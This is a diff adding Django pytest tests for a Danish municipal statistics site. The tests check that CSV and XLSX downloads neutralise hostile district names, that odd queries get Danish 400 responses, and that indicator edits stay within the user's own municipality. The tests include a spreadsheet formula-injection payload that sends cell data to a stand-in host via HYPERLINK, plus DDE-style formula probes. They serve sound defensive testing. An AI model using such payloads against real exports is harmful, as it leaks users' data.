@@ -6,6 +6,10 @@ Each test is a probe an outsider (or a curious colleague) would try; a test that
 
 from __future__ import annotations
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 
@@ -130,3 +134,228 @@ def test_304s_and_revalidated_pages_stay_private(client, public):
     assert response.status_code == 304
     assert response["Cache-Control"] == "private, no-cache"
     assert response.content == b""
+
+
+# --- 3. hostile text in the new downloads ----------------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"klik")'
+
+
+def danish_rows(content: bytes) -> list[list[str]]:
+    assert content.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def about_sheet(content: bytes):
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return book.worksheets[0], book.worksheets[1]
+
+
+@pytest.fixture
+def hostile_town(town, django_user_model, client):
+    """The town with a district named like a formula with ``;`` and quotes, and one with a line break."""
+    from districts.models import District
+
+    District.objects.filter(municipality=town, name="Vester").update(name=HOSTILE)
+    District.objects.filter(municipality=town, name="Lund").update(name="Lund;\r\nNord\t\"x\"")
+    from reports.aggregates import aggregates_refresh
+
+    aggregates_refresh(municipality_ids={town.pk})
+    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
+    return client
+
+
+def test_danish_csv_quotes_and_escapes_hostile_district_names(hostile_town):
+    response = hostile_town.get("/kommune/165/figur/reports-per-1000.da.csv?period_from=2016&period_to=2016")
+    assert response.status_code == 200
+    rows = danish_rows(response.content)
+    width = len(rows[0])
+    assert all(len(row) == width for row in rows)  # ";" and CR/LF inside a name split no row
+    districts = {row[rows[0].index("Bydel")] for row in rows[1:]}
+    assert "'" + HOSTILE in districts and HOSTILE not in districts
+    assert "Lund;\nNord\t\"x\"" in districts  # the CR became a line feed inside the quoted cell
+
+
+def test_xlsx_and_its_about_sheet_hold_hostile_filters_as_text(hostile_town):
+    from urllib.parse import urlencode
+
+    query = urlencode([("period_from", "2016"), ("period_to", "2016"), ("districts", HOSTILE)])
+    response = hostile_town.get(f"/kommune/165/figur/reports-per-1000.xlsx?{query}")
+    assert response.status_code == 200
+    data, about = about_sheet(response.content)
+    cells = [c for sheet in (data, about) for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    lines = {row[0].value: row[1] for row in about.iter_rows()}
+    assert lines["Bydele"].value == HOSTILE and lines["Bydele"].quotePrefix
+
+
+def test_comparison_downloads_hold_hostile_peers_as_text(client, reference, django_user_model):
+    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
+    for fmt in ("da.csv", "xlsx", "csv", "json"):
+        response = client.get(f"/kommune/165/sammenligning.{fmt}", {"peers": "=1+1;@A1", "category": "=cmd|x"})
+        assert response.status_code in (200, 400), (fmt, response.status_code)
+        if response.status_code == 400:
+            assert response["Content-Type"].startswith("text/plain")
+            assert response.content.decode()  # a Danish reason
+            continue
+        if fmt == "xlsx":
+            data, about = about_sheet(response.content)
+            cells = [c for sheet in (data, about) for row in sheet.iter_rows() for c in row]
+            assert not [c.coordinate for c in cells if c.data_type == "f"]
+
+
+@pytest.mark.parametrize(("query", "reason"), [
+    ("districts=Vester&districts=Ukendt", "Vester"),
+    ("categories=findes-ikke", "findes-ikke"),
+    ("period_from=2016K5&period_to=2017", "2016K5"),
+    ("period_from=0000&period_to=2016", "mellem 1900 og 2199"),  # was a 500 (year 0)
+    ("period_from=2016&period_to=9999", "mellem 1900 og 2199"),
+    ("period_from=1000&period_to=9998", "mellem 1900 og 2199"),  # was 9,000 years: 26 s and 77 MB for a page
+    ("period_from=1900K1&period_to=2199K4", "højst 50 år"),  # was 1,200 quarters: 3 s and 10 MB
+    ("period_from=2017&period_to=2016", "før"),
+    ("date_basis=%F0%9F%92%A3", "💣"),
+    ("period_from=" + "9" * 500, "Fra periode"),
+])
+@pytest.mark.parametrize("fmt", ["da.csv", "xlsx", "csv"])
+def test_odd_queries_on_the_downloads_answer_400_in_danish_never_500_nor_the_default(hostile_town, query, reason,
+                                                                                     fmt):
+    """A download whose filters are wrong said nothing and gave the default period (or a 500 for year 0)."""
+    response = hostile_town.get(f"/kommune/165/figur/charges-by-category.{fmt}?{query}")
+    assert response.status_code == 400, (query, response.status_code)
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    assert reason in response.content.decode()
+
+
+def test_thousands_of_districts_or_categories_get_a_danish_400_page(hostile_town):
+    """Django refuses over 1,000 parameters (``TooManyFieldsSent``) with a 400 page: it was Django's English one."""
+    for url in ["/kommune/165/figur/charges-by-category.da.csv?", "/kommune/165/sammenligning.xlsx?",
+                "/kommune/165/?"]:
+        response = hostile_town.get(url + "&".join(f"districts=Bydel{i}" for i in range(2000)))
+        assert response.status_code == 400
+        assert "Adressen kan ikke bruges" in response.content.decode() and "højst 1.000" in response.content.decode()
+
+
+@pytest.mark.parametrize("url", ["/kommune/165/?period_from=1000&period_to=9998",
+                                 "/kommune/165/figur/reports-per-1000/?period_from=1000&period_to=9998",
+                                 "/kommune/165/figur/reports-per-1000.da.csv?period_from=1000&period_to=9998",
+                                 "/kommune/165/?period_from=1990&period_to=2049",
+                                 "/kommune/165/?period_from=0000&period_to=2016"])
+def test_the_public_cannot_ask_for_thousands_of_years(client, town, url):
+    town.public_view = True
+    town.save()
+    response = client.get(url)
+    assert response.status_code == 400, url
+    assert ("1900 og 2199" in response.content.decode() or "50 år" in response.content.decode()), url
+
+
+def test_fifty_years_of_quarters_still_open(hostile_town):
+    response = hostile_town.get("/kommune/165/figur/reports-per-1000.da.csv?period_from=2000K1&period_to=2049K4")
+    assert response.status_code == 200
+    assert len(danish_rows(response.content)) > 200
+
+
+@pytest.mark.parametrize("query", [
+    "category=" + "&category=".join(f"X{i}" for i in range(2000)),
+    "period_from=2016K5", "period_from=0000&period_to=9999", "period_from=2017&period_to=2016",
+    "period_from=1000&period_to=9998",
+    "peers=" + ",".join(["101"] * 3000), "peers=%F0%9F%92%A3",
+])
+@pytest.mark.parametrize("fmt", ["da.csv", "xlsx"])
+def test_odd_queries_on_the_comparison_downloads_answer_400_never_500(client, reference, django_user_model,
+                                                                      query, fmt):
+    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
+    response = client.get(f"/kommune/165/sammenligning.{fmt}?{query}")
+    assert response.status_code in (200, 400), (query, response.status_code)
+    if query.startswith(("period_from=0000", "period_from=1000")):  # was a 500 (year 0, and dates past year 9999)
+        assert response.status_code == 400 and "1900 og 2199" in response.content.decode()
+
+
+# --- 4. indicators ----------------------------------------------------------------------------------------------------
+
+MEASURE = "metric:Andel utrygge"
+
+
+@pytest.fixture
+def two_towns(reference, member, client):
+    """Albertslund (165) with a measure 2016 50 %, 2017 45 % and an indicator; Høje-Taastrup (169) with its own.
+    The client is logged in as Albertslund's leder."""
+    from comparisons.models import Indicator
+    from reports.models import ActivityFigure
+
+    a, b = reference["165"], reference["169"]
+    for town in (a, b):
+        ActivityFigure.objects.create(municipality=town, name="Andel utrygge", period="2016", value=50, unit="procent")
+        ActivityFigure.objects.create(municipality=town, name="Andel utrygge", period="2017", value=45, unit="procent")
+    own = Indicator.objects.create(municipality=a, name="Tryghed A", measure=MEASURE, baseline_period="2016",
+                                   target_period="2020", target_change_pct=-10)
+    theirs = Indicator.objects.create(municipality=b, name="Tryghed B", measure=MEASURE, baseline_period="2016",
+                                      target_period="2020", target_change_pct=-10)
+    client.force_login(member("Leder", a))
+    return client, a, b, own, theirs
+
+
+def form_data(**changes):
+    return {"name": "Tryghed", "measure": MEASURE, "unit": "%", "direction": "down", "baseline_period": "2016",
+            "target_period": "2020", "target_value": "", "target_change_pct": "-10", "order": "0", **changes}
+
+
+def test_a_leder_cannot_touch_another_municipalitys_indicators(two_towns):
+    from comparisons.models import Indicator
+
+    client, a, b, own, theirs = two_towns
+    assert client.get(f"/kommune/{b.code}/maal/ny/").status_code == 403
+    assert client.post(f"/kommune/{b.code}/maal/ny/", form_data()).status_code == 403
+    assert client.post(f"/kommune/{b.code}/maal/{theirs.pk}/", form_data(name="Overtaget")).status_code == 403
+    # B's indicator under A's address: not found (the indicator is looked up in the municipality of the URL)
+    assert client.get(f"/kommune/{a.code}/maal/{theirs.pk}/").status_code == 404
+    assert client.post(f"/kommune/{a.code}/maal/{theirs.pk}/", form_data(name="Overtaget")).status_code == 404
+    # A's indicator under B's address: the role is checked for B
+    assert client.post(f"/kommune/{b.code}/maal/{own.pk}/", form_data(name="Flyttet")).status_code == 403
+    # a municipality field smuggled into the form is ignored: the new indicator belongs to A
+    response = client.post(f"/kommune/{a.code}/maal/ny/", {**form_data(name="Smuglet"), "municipality": b.pk})
+    assert response.status_code == 302
+    assert Indicator.objects.get(name="Smuglet").municipality == a
+    theirs.refresh_from_db()
+    assert theirs.name == "Tryghed B" and Indicator.objects.filter(municipality=b).count() == 1
+
+
+def test_an_analyst_or_the_public_cannot_create_indicators(reference, member, client):
+    client.force_login(member("Analytiker", reference["165"]))
+    assert client.post("/kommune/165/maal/ny/", form_data()).status_code == 403
+    client.logout()
+    assert client.post("/kommune/165/maal/ny/", form_data()).status_code == 302  # to the login
+
+
+@pytest.mark.parametrize(("changes", "field", "message"), [
+    ({"baseline_period": "0000"}, "baseline_period", "er ikke et år"),  # was saved as "0": a 500 on the page
+    ({"target_period": "9999"}, "target_period", "er ikke et år"),
+    ({"baseline_period": "2016K1", "target_period": "2020K1"}, "baseline_period", "ikke et kvartal"),
+    ({"baseline_period": "2016H1", "target_period": "2020"}, "target_period", "samme slags"),
+    ({"target_period": "2015"}, "target_period", "efter udgangsperioden"),
+    ({"target_change_pct": "inf"}, "target_change_pct", "tal"),
+    ({"target_change_pct": "nan"}, "target_change_pct", "tal"),
+    ({"target_change_pct": "-10", "target_value": "5"}, "target_value", "ikke begge"),
+])
+def test_indicator_form_refuses_odd_periods_and_targets_in_danish(two_towns, changes, field, message):
+    client, a, *_rest = two_towns
+    response = client.post(f"/kommune/{a.code}/maal/ny/", form_data(**changes))
+    assert response.status_code == 200  # the form again, with the reason
+    errors = response.context["form"].errors
+    assert field in errors and message in " ".join(errors[field]), errors
+
+
+@pytest.mark.parametrize(("changes", "target"), [
+    ({"target_change_pct": "-100"}, "0,0"),  # 50 % → 0 %
+    ({"target_change_pct": "-1000"}, "-450,0"),  # absurd, but a number: the page shows it
+    ({"target_change_pct": "1e300"}, None),
+    ({"target_value": "1e308", "target_change_pct": ""}, None),
+    ({"baseline_period": "1900", "target_period": "2199"}, None),  # no value at the baseline: no target
+])
+def test_absurd_targets_render_the_indicators_page(two_towns, changes, target):
+    client, a, *_rest = two_towns
+    response = client.post(f"/kommune/{a.code}/maal/ny/", form_data(name="Absurd", **changes))
+    assert response.status_code == 302, response.context["form"].errors if response.context else response
+    page = client.get(f"/kommune/{a.code}/maal/")
+    assert page.status_code == 200
+    if target:
+        assert target in page.content.decode()
